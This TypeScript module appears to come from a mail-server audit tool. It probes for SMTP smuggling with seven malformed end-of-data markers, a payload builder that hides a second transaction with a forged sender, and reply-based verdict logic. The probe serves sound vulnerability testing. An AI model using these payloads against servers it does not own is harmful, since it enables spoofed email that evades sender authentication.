// SMTP smuggling (audit-and-probe.md §3.2, CVE-2023-51764/51765/51766): the bad end-of-data markers, the
// payload that hides a second transaction behind one of them, and the verdict on the replies.

export interface SmugglingVector {
  name: string;
  /** the octets sent where a correct client would send CR LF . CR LF */
  marker: string;
}

export const SMUGGLING_VECTORS: readonly SmugglingVector[] = [
  { name: 'lf-dot-lf', marker: '\n.\n' },
  { name: 'lf-dot-crlf', marker: '\n.\r\n' },
  { name: 'crlf-dot-lf', marker: '\r\n.\n' },
  { name: 'cr-dot-cr', marker: '\r.\r' },
  { name: 'cr-dot-crlf', marker: '\r.\r\n' },
  { name: 'crlf-dot-cr', marker: '\r\n.\r' },
  { name: 'lf-lf-dot-crlf', marker: '\n\n.\r\n' },
];

export const SMUGGLING_SUBJECT = 'postern probe: SMTP smuggling test (ignore)';

export interface PayloadInputs {
  from: string;
  rcptLocal: string;
  /** D: the sender domain of the smuggled transaction */
  domain: string;
  date: string;
}

export function smuggledSender(domain: string): string {
  return `postern-smuggled@${domain}`;
}

function header(from: string, to: string, date: string): string {
  return `From: <${from}>\r\nTo: <${to}>\r\nSubject: ${SMUGGLING_SUBJECT}\r\nDate: ${date}\r\n\r\n`;
}

/**
 * Everything sent after the 354, in one write: the first message cut short by the bad marker, a
 * complete second transaction, the proper end of data, QUIT.
 */
export function smugglingPayload(v: SmugglingVector, p: PayloadInputs): string {
  const smuggled = smuggledSender(p.domain);
  return (
    header(p.from, p.rcptLocal, p.date) +
    `First message of the Postern probe's smuggling test (${v.name}).` +
    v.marker +
    `MAIL FROM:<${smuggled}>\r\n` +
    `RCPT TO:<${p.rcptLocal}>\r\n` +
    'DATA\r\n' +
    header(smuggled, p.rcptLocal, p.date) +
    `Smuggled second message (${v.name}): if this arrived on its own, the server is vulnerable.\r\n` +
    '.\r\n' +
    'QUIT\r\n'
  );
}

export type SmugglingVerdict = 'vulnerable' | 'safe' | 'inconclusive';

export interface ReplySeen {
  code: number;
  text: string;
}

/**
 * The verdict on the replies that came after the 354 (§3.2). `ended` says how reading stopped:
 * `quit` (a 221 was read: it is the last entry), `closed`, or `timeout`.
 */
export function smugglingVerdict(replies: readonly ReplySeen[], ended: 'quit' | 'closed' | 'timeout'): SmugglingVerdict {
  const beforeQuit = ended === 'quit' ? replies.slice(0, -1) : replies;
  const first250 = beforeQuit.findIndex((r) => r.code === 250);
  if (beforeQuit.some((r) => r.code === 250 && /sender ok/i.test(r.text))) return 'vulnerable';
  if (beforeQuit.filter((r) => r.code === 250).length >= 2) return 'vulnerable';
  if (first250 !== -1 && beforeQuit.slice(first250 + 1).some((r) => r.code === 354)) return 'vulnerable';
  const one = beforeQuit.length === 1 ? beforeQuit[0]! : undefined;
  if (one !== undefined && (one.code === 250 || (one.code >= 400 && one.code < 600)) && ended !== 'timeout') return 'safe';
  return 'inconclusive';
}
